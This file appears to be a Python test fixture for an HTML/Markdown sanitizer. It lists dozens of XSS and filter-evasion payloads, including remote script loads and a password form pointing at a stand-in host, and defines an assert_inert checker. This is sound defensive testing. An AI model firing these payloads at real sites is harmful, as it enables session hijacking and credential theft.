"""
Payloads that ran somewhere once, and what a page made of them must not hold.

``PAYLOADS`` goes into every text field there is; ``assert_inert`` looks at what
comes out. ``MARKDOWN`` are those that only mean something where Markdown is read.
Sources: safety.md P104-P120 and S-040, S-055; OWASP's filter evasion list;
mutation XSS of bleach and DOMPurify.
"""

from html.parser import HTMLParser

ALLOWED_TAGS = {
    *("a", "blockquote", "br", "code", "del", "em", "li", "ol", "p", "pre", "strong", "ul"),
}
ALLOWED_ATTRIBUTES = {"a": {"href", "rel", "class"}, "ol": {"start"}}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//trap.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script\n>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    '<img src="x:x" onerror="alert(1)"',
    "<img/src='x'/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<img src=`x`onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><annotation>x</annotation></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//trap.example/x.swf>",
    "<applet code=x></applet>",
    "<base href=//trap.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//trap.example/x.css>",
    "<style>@import '//trap.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(//trap.example/x)'>x</p>",
    "<p style=width:expression(alert(1))>x</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=//trap.example/><input name=password><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61;vascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java\u202escript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//trap.example/' target=_blank onclick=alert(1)>x</a>",
    "<a href='https://trap.example/' style='position:fixed;inset:0'>x</a>",
    "<a class='button arrivals' href='https://trap.example/'>x</a>",
    "<p id=contenu class=message data-live-topic=me>x</p>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<xss onmouseover=alert(1)>x</xss>",
    "<div><template><script>alert(1)</script></template></div>",
    "<p/onclick=alert(1)>x",
    '<a href="https://a.example/?<script>">x</a>',
    "{{ constructor.constructor('alert(1)')() }}{% debug %}",
    "\u2028<script>alert(1)</script>\u2029",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( \x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](//trap.example/)",
    "[x](\\\\trap.example/)",
    "[x](/moi)",
    "[x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover=alert(1)>',
    '[x](https://a.example "onmouseover=alert(1) x=")',
    "![x](https://trap.example/pixel.png)",
    '![x](x"onerror=alert(1))',
    "[![x](javascript:alert(1))](javascript:alert(1))",
    'https://a.example/"onmouseover=alert(1)',
    "https://a.example/'><script>alert(1)</script>",
    "http://javascript:alert(1)@a.example",
    '@membre"onmouseover=alert(1)',
    "@membre@a.example/<script>",
    '#mot"><script>alert(1)</script>',
    "`<script>alert(1)</script>`",
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    '```"onmouseover=alert(1)\nx\n```',
    "    <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "# <svg onload=alert(1)>",
    "*<b onclick=alert(1)>*",
]


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.found.append(("!--", {}))

    def handle_decl(self, decl):
        self.found.append(("!", {}))


def assert_inert(markup: str) -> None:
    """Fail unless ``markup`` holds nothing but the few tags and attributes of a note."""
    reader = _Reader()
    reader.feed(markup)
    reader.close()
    for tag, attributes in reader.found:
        assert tag in ALLOWED_TAGS, markup
        assert set(attributes) <= ALLOWED_ATTRIBUTES.get(tag, set()), markup
        href = attributes.get("href")
        if href is not None:
            outside = href.lower().startswith(("http://", "https://", "mailto:"))
            within = href.startswith("/") and not href.startswith(("//", "/\\"))
            assert outside or within, markup
            assert attributes["rel"] == "nofollow noopener noreferrer", markup
        assert attributes.get("class") in (None, "", "mention", "hashtag"), markup
    assert not any(
        sign in markup for sign in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    )
